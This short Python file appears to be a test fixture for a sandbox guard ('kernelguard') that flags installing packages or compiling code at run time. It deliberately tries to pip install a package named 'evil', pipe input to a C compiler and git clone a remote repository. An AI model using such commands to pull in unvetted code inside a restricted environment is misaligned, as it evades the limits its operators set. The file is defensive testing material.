"""pip install and compiling at run time (kernelguard RUNTIME_PACKAGE_INSTALL)."""
# tries: function
# ends: wrong_answer runtime_error forbidden

import subprocess
import sys

for command in (
    [sys.executable, "-m", "pip", "install", "evil"],
    ["cc", "-x", "c", "-"],
    ["git", "clone", "https://example.com/x"],
):
    try:
        subprocess.run(command, timeout=2)
    except OSError:
        continue
import pip._internal.cli.main

pip._internal.cli.main.main(["install", "evil", "--quiet", "--retries", "0", "--timeout", "1"])


def shares(*args): ...


label = first_over = shares
